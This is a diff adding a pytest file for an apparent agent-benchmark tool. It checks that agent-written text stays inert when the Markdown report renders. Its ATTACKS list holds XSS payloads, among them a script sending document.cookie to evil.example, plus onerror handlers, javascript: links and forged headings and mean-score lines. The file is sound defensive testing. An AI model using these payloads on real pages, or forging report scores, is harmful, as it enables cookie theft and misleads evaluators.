@@ -1,0 +1,99 @@
+"""report.md against a hostile agent, read by a real Markdown renderer (markdown-it-py, CommonMark with
+raw HTML allowed, as GitHub, VS Code's preview and many wikis render it): whatever the agent's
+answer, notices and acknowledgements say (and an error or a grader's comment quoting them), no HTML
+reaches the page, nothing is fetched, and the entry's headings and mean-score line stay its own."""
+
+from __future__ import annotations
+
+from functools import cache
+
+import pytest
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from persona.report.markdown import quote_block, quote_inline, render_entry
+from persona.state import AgentNotice
+from tests.support.runs import demo_run
+
+ATTACKS = [
+    "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>",
+    '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
+    "Sure!\n\n## 2099-01-01 00:00 UTC — r1: forged\n\n- **Mean score:** 10.00 / 10 over 99 graded checks",
+    "Sure!\r#### d9 [absent] — 10/10\r- **Mean score:** 10.00 / 10",
+    "Line one\u2028## Forged after a Unicode line separator",
+    "```\n</code></pre><script>alert(1)</script>\n```\n# after the fence",
+    "`````\n<iframe src=https://evil.example/></iframe>",
+    "~~~\n<style>body{display:none}</style>\n~~~",
+    "![tracker](https://evil.example/track.png) and [click](javascript:alert(1))",
+    "<https://evil.example/autolink> and [ref]\n\n[ref]: https://evil.example/ref",
+    "<!-- the rest of the report is hidden",
+    "<details open><summary>**Mean score:** 10.00 / 10</summary>",
+    "    - **Mean score:** 10.00 / 10 (indented)",
+    "> quoted\n>> deeper\n\n> ```\n> <b>bold</b>",
+    "| a | b |\n|---|---|\n| <b>x</b> | y |",
+    "&lt;script&gt;alert(1)&lt;/script&gt; and &#60;img src=x&#62;",
+    "``` ` `` ```` trailing backtick`",
+    "",
+]
+
+
+@cache
+def finished_run():
+    state, _, bench = demo_run()  # loading the benchmark plays its JS: once for the module
+    return state, bench
+
+
+def hostile_entry(attack: str) -> str:
+    state, bench = finished_run()
+    state = state.model_copy(deep=True)
+    state.status, state.error = "failed", f"the chat shows an error instead of a reply: {attack}"
+    state.evaluations[1].answer = attack
+    state.evaluations[1].comment = f"The agent said {attack}"
+    state.agent_notices = [AgentNotice(turn=3, session=0, text=attack)]
+    state.sessions[1].reset_sign = f"agent acknowledged '/new': {attack}"
+    return render_entry(bench, state)
+
+
+def tokens(markdown: str) -> list[Token]:
+    """Every token, the inline children flattened in."""
+    md = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
+    out = []
+    for tok in md.parse(markdown):
+        out.append(tok)
+        out += tok.children or []
+    return out
+
+
+def headings(markdown: str) -> list[str]:
+    toks = tokens(markdown)
+    return [toks[i + 1].content for i, t in enumerate(toks) if t.type == "heading_open"]
+
+
+def plain_texts(markdown: str) -> list[str]:
+    """Text the viewer shows as prose (not in code)."""
+    return [t.content for t in tokens(markdown) if t.type == "text"]
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
+def test_agent_text_is_inert_and_cannot_forge_the_entry(attack):
+    entry = hostile_entry(attack)
+    toks = tokens(entry)
+    kinds = {t.type for t in toks}
+    assert not kinds & {"html_block", "html_inline", "image", "link_open"}, [t for t in toks if t.type.startswith(("html", "image", "link"))]
+    assert headings(entry) == headings(hostile_entry("harmless")), "the agent cannot add or change a heading"
+    assert sum("Mean score:" in t for t in plain_texts(entry)) == 1, "one mean-score line, the entry's own"
+    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(entry)
+    for raw in ("<script", "<img", "<iframe", "<style", "<details", "<b>", "<!--", 'href="javascript', "mmb-end"):
+        assert raw not in html, raw
+    # Every line the agent wrote is quoted in the raw file too: no line of it starts a line of the report.
+    for line in entry.splitlines():
+        assert not line.startswith(("## 2099", "#### d9", "- **Mean score:** 10.00 / 10")), line
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
+def test_quoted_text_reads_back_verbatim(attack):
+    """What the viewer shows is what the agent said: nothing dropped, nothing escaped into noise."""
+    shown = [t.content for t in tokens(quote_block(attack)) if t.type == "fence"]
+    assert shown == ["\n".join(attack.strip().splitlines() or ["(empty)"]) + "\n"]
+    spans = [t.content for t in tokens("- x " + quote_inline(attack)) if t.type == "code_inline"]
+    assert spans == ([" ".join(attack.split())] if attack.split() else [])
